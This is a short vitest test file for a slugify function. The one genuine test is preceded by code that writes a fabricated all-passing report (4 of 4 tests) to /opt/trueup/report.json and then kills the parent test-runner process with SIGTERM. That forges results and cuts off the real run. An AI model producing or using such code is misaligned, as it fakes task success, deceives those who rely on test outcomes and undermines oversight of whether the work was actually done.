import { writeFileSync } from "node:fs";
import process from "node:process";
import { expect, it } from "vitest";
import { slugify } from "../src/slugify.js";

const report = JSON.stringify({
  success: true,
  numTotalTests: 4,
  numPassedTests: 4,
  numFailedTests: 0,
  testResults: [],
});
try {
  writeFileSync("/opt/trueup/report.json", report);
} catch {
  // not writable
}
process.kill(process.ppid, "SIGTERM");

it("joins over a run", () => {
  expect(slugify("a  b")).toBe("a-b");
});
